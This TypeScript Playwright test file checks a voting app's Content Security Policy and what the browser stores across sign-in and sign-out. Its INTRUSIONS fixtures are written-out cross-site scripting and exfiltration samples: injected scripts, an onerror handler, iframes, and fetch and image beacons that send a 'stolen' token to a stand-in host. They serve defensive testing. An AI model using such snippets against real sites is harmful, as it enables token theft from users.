import type { Page } from '@playwright/test';
import { signInAsOrganizer, startQuestion } from './support/organizer';
import { superAdmin } from './support/plenum-server';
import { arrange } from './support/setting';
import { DESKTOP, expect, PHONE, PRESENTATION, test } from './support/test';
import { choose, joinMeeting, signInAsVoter, vote } from './support/voter';

/** The attempts of an attacker whose script got into a page. */
const INTRUSIONS: Record<string, () => void> = {
  'a script in the page': () => {
    const script = document.createElement('script');
    script.textContent = 'window.intruded = true';
    document.body.append(script);
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://elsewhere.invalid/intrude.js';
    document.body.append(script);
  },
  'a script in an address': () => {
    const script = document.createElement('script');
    script.src = 'data:text/javascript,window.intruded = true';
    document.body.append(script);
  },
  'a script at an element': () => {
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," alt="" onerror="window.intruded = true">';
    document.body.append(holder);
  },
  'a frame from elsewhere': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.invalid/';
    document.body.append(frame);
  },
  'a plug-in': () => {
    const plugIn = document.createElement('object');
    plugIn.data = 'https://elsewhere.invalid/';
    document.body.append(plugIn);
  },
  'a call that carries something away': () => {
    fetch('https://elsewhere.invalid/?token=stolen').catch(() => {});
  },
  'a picture that carries something away': () => {
    new Image().src = 'https://elsewhere.invalid/?token=stolen';
  },
};

declare global {
  interface Window {
    heldBack: string[];
    intruded?: boolean;
  }
}

for (const address of ['/admin/login', '/vote', '/api/docs/']) {
  test(`what gets into a page is held back there: ${address}`, async ({ browser, server }) => {
    // Not by `openAs`, which would treat each of these as a failure.
    const context = await browser.newContext({ baseURL: server.url });
    const page = await context.newPage();
    await page.addInitScript(() => {
      window.heldBack = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        window.heldBack.push(effectiveDirective),
      );
    });
    await page.goto(address);
    const heldBack = () => page.evaluate(() => window.heldBack);
    for (const [name, intrude] of Object.entries(INTRUSIONS)) {
      const before = (await heldBack()).length;
      await page.evaluate(intrude);
      await expect.poll(async () => (await heldBack()).length, { message: name }).toBe(before + 1);
    }
    expect(await heldBack()).toEqual([
      'script-src-elem',
      'script-src-elem',
      'script-src-elem',
      'script-src-attr',
      'frame-src',
      'object-src',
      'connect-src',
      'img-src',
    ]);
    expect(await page.evaluate(() => window.intruded)).toBeUndefined();
    await context.close();
  });
}

/** All data of the app in the browser, by storage and name. */
async function kept(page: Page): Promise<Record<string, string>> {
  const cookies = await page.context().cookies();
  const stored = await page.evaluate(() => [
    ...Object.entries({ ...localStorage }).map(([key, value]) => [`device ${key}`, value as string] as const),
    ...Object.entries({ ...sessionStorage }).map(([key, value]) => [`tab ${key}`, value as string] as const),
  ]);
  return Object.fromEntries([
    ...cookies.map(({ name, value }) => [`cookie ${name}`, value] as const),
    ...stored,
  ]);
}

/** Identifies a device with an earlier sign-in. It gives no access by itself. */
const DEVICE = 'device deviceTokens';
const TOKENS = ['device accessToken', 'device refreshToken', DEVICE];
const COLORS = 'device mantine-color-scheme-value';

async function expectKept(page: Page, names: string[], secrets: string[]): Promise<void> {
  const found = await kept(page);
  expect(Object.keys(found).filter((name) => name !== COLORS)).toEqual(expect.arrayContaining(names));
  expect(Object.keys(found).filter((name) => ![...names, COLORS].includes(name))).toEqual([]);
  for (const [name, value] of Object.entries(found)) {
    for (const secret of secrets) {
      expect(value.includes(secret), `${name} holds ${secret}`).toBe(false);
    }
    // A token: three Base64 parts separated by dots.
    expect(/eyJ[\w-]+\.[\w-]+\.[\w-]+/.test(value), `a token under ${name}`).toBe(name === TOKENS[0]);
  }
}

test('browsers keep tokens and notes of a voter’s own, and once they have signed out that the device is known alone', async ({
  openAs,
  server,
}) => {
  const setting = await arrange(server.url, {
    name: 'Kept In Browsers',
    voters: 1,
    questions: [
      { questionText: 'Agreed?', questionType: 'YES_NO', options: ['Yes', 'No'] },
      { questionText: 'And this?', questionType: 'YES_NO', options: ['Yes', 'No'] },
    ],
  });
  const { username, password } = setting.voters[0] as { username: string; password: string };
  const { meetingId, meetingTitle, clientCode, organizer } = setting;
  const secrets = [password, organizer.password, superAdmin.password];
  const [root, desk, phone, presentation] = [
    await openAs(DESKTOP),
    await openAs(DESKTOP),
    await openAs(PHONE),
    await openAs(PRESENTATION),
  ];

  await root.goto('/admin/login');
  await root.getByLabel('Email Address').fill(superAdmin.email);
  await root.getByLabel(/^Password/).fill(superAdmin.password);
  await root.getByRole('button', { name: 'Sign in' }).click();
  await expect(root.getByText('Total Clients')).toBeVisible();
  await expectKept(root, TOKENS, secrets);

  await signInAsOrganizer(desk, organizer);
  await desk.goto(`/client/meetings/${meetingId}/control`);
  await startQuestion(desk);
  await expectKept(desk, TOKENS, secrets);

  await presentation.goto(`/presentation/meeting/${meetingId}`);
  await expect(presentation.getByText('Agreed?')).toBeVisible();
  await expectKept(presentation, [], secrets);

  await phone.goto(`/participant/login/${clientCode}`);
  await signInAsVoter(phone, username, password);
  await joinMeeting(phone, meetingTitle);
  await choose(phone, { choice: 'Yes' });
  const owner = 'device voterNotesOf';
  await expectKept(phone, [...TOKENS, owner, `tab ballotDraft_${meetingId}`], secrets);
  await vote(phone, { choice: 'Yes' });
  const notes = [`device votedQuestions_${meetingId}`, `device answeredQuestions_${meetingId}`];
  await expectKept(phone, [...TOKENS, owner, ...notes], secrets);

  await phone.goto('/voting');
  await desk.goto('/client');
  for (const page of [phone, root, desk]) {
    await page
      .getByRole('button', { name: /Logout|Sign out/ })
      .filter({ visible: true })
      .click();
    await expect(page).toHaveURL(/login|participant/);
    await expectKept(page, [DEVICE], secrets);
  }
});
